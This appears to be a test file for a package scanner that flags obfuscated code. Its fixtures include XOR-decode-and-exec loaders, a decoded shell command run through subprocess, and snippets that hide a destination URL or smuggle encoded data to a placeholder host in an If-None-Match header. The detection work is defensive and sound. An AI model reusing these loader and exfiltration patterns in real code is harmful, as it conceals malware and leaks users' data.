"""What a module hides byte by byte: what it runs, whom it talks to, what it sends."""
# ruff: noqa: E501 - the lines of other people's code are as long as they are

import pytest

from tests.scanner.signals.built import WHEEL, fired, wheel

RUN = {
    "xored out of a file": "import zlib\nfrom pathlib import Path\n\ndef load(name):\n    data = (Path(__file__).parent / name).read_bytes()\n    text = zlib.decompress(bytes(c ^ 91 for c in data[9:]))\n    exec(compile(text, name, 'exec'), {})\n",
    "shifted": "def load(data):\n    text = bytes(map(lambda b: (b - 83) % 256, data)).decode()\n    exec(text)\n",
    "letter by letter": "def plain(text, step=7):\n    out = []\n    for c in text:\n        out.append(chr(ord(c) - step))\n    return ''.join(out)\n\ndef load(text):\n    exec(plain(text))\n",
    "started": "import subprocess\n\ndef load(text, key):\n    told = ''.join(chr(b ^ key[i % len(key)]) for i, b in enumerate(text))\n    subprocess.run(told, shell=True)\n",
    "by a loader": "import importlib.abc\n\nclass FontLoader(importlib.abc.InspectLoader):\n    def get_source(self, name):\n        return bytes(b ^ 7 for b in self.table).decode()\n",
    "by a loader that is made": "import importlib.abc\n\ndef make(table):\n    return type('L', (importlib.abc.InspectLoader,), {'get_source': lambda self, name: bytes(b ^ 7 for b in table).decode()})\n",
}
HIDDEN = {
    "address-deciphered": "import base64, requests\n\nclass Witness:\n    def __init__(self, cfg, label=b'tides'):\n        raw = base64.b64decode(cfg['witness'])\n        self.url = bytes(b ^ label[i % len(label)] for i, b in enumerate(raw)).decode()\n\n    def confirm(self, parts):\n        return requests.post(self.url + '/x', files=parts, timeout=20).ok\n",
    "sent-enciphered": "import base64, http.client, json\n\ndef note(told, key):\n    body = bytes(b ^ key[i % 16] for i, b in enumerate(json.dumps(told).encode()))\n    try:\n        line = http.client.HTTPSConnection('n.example.invalid', timeout=2)\n        line.request('GET', '/h', headers={'If-None-Match': base64.b64encode(body).decode()})\n        line.getresponse()\n    except OSError:\n        pass\n",
    "header-carries-data": "import base64, json, requests\n\nclass Rules:\n    def _tag(self):\n        return base64.urlsafe_b64encode(json.dumps(self.seen).encode()).decode()\n\n    def fresh(self):\n        return requests.get('https://n.example.invalid/r', headers={'If-None-Match': self._tag()}).json()\n",
}
HONEST = {
    "headers as they are": "import base64, hashlib, uuid, requests\n\ndef ask(url, user, password, seen):\n    basic = base64.b64encode(f'{user}:{password}'.encode()).decode()\n    tag = hashlib.sha256(seen).hexdigest()\n    return requests.get(url, headers={'Authorization': 'Basic ' + basic, 'If-None-Match': tag, 'User-Agent': 'tides/1', 'X-Request-ID': uuid.uuid4().hex}).json()\n",
    "a mask of a protocol": "import socket\n\ndef send(host, data, mask):\n    line = socket.create_connection((host, 80))\n    line.sendall(bytes(b ^ mask[i % 4] for i, b in enumerate(data)))\n    return line.recv(9)\n",
    "a sign of a question": "import requests\n\ndef ask(words, key):\n    sign = ''.join(chr(ord(c) ^ key) for c in words)\n    return requests.get(f'https://api.example.invalid/v1?q={words}&s={sign}').json()\n",
    "a game's letters": "def turn(text, step):\n    return ''.join(chr((ord(c) - 97 + step) % 26 + 97) for c in text)\n\ndef play(code):\n    exec(code)\n    return turn('tides', 3)\n",
    "sets": "import requests\n\ndef differ(a, b):\n    return [x for x in a ^ b] and requests.get(a.url).json()\n",
}


@pytest.mark.parametrize("source", RUN.values(), ids=RUN)
def test_what_is_deciphered_by_hand_and_run_is_told(source: str) -> None:
    assert "deciphered-is-run" in fired(WHEEL, wheel({"pkg/__init__.py": b"", "pkg/themes.py": source.encode()}))


@pytest.mark.parametrize("kind", HIDDEN)
def test_what_is_hidden_by_hand_on_the_wire_is_told(kind: str) -> None:
    assert kind in fired(WHEEL, wheel({"pkg/__init__.py": b"", "pkg/health.py": HIDDEN[kind].encode()}))


@pytest.mark.parametrize("source", HONEST.values(), ids=HONEST)
def test_ciphers_of_protocols_and_games_tell_nothing(source: str) -> None:
    told = fired(WHEEL, wheel({"pkg/__init__.py": b"", "pkg/health.py": source.encode()}))
    assert not told & {"deciphered-is-run", "address-deciphered", "sent-enciphered", "header-carries-data"}


def test_what_one_module_deciphers_and_another_runs_is_told() -> None:
    chunks = b"import zlib\n\ndef profile(data):\n    return zlib.decompress(bytes(c ^ 91 for c in data)).decode()\n"
    themes = b"from . import chunks\n\ndef load(data):\n    source = chunks.profile(data)\n    exec(compile(source, 'p', 'exec'))\n"
    package = {"pkg/__init__.py": b"", "pkg/chunks.py": chunks, "pkg/themes.py": themes}
    assert "deciphered-is-run" in fired(WHEEL, wheel(package))


def test_an_address_that_another_module_deciphers_is_told() -> None:
    words = b"import base64, zlib\n\nKEY = b'tides'\n\ndef reveal(token):\n    raw = zlib.decompress(base64.b64decode(token))\n    return bytes(c ^ KEY[i % len(KEY)] for i, c in enumerate(raw)).decode()\n"
    client = b"import requests\nfrom ._words import reveal\n\nBASE = reveal(open('base.bin').read())\n\ndef ask(text):\n    return requests.post(BASE, json={'text': text}).json()\n"
    package = {"pkg/__init__.py": b"", "pkg/_words.py": words, "pkg/client.py": client}
    assert "address-deciphered" in fired(WHEEL, wheel(package))
    assert "address-deciphered" not in fired(
        WHEEL, wheel(package | {"pkg/_words.py": words.replace(b" ^ KEY[i % len(KEY)]", b"")})
    )
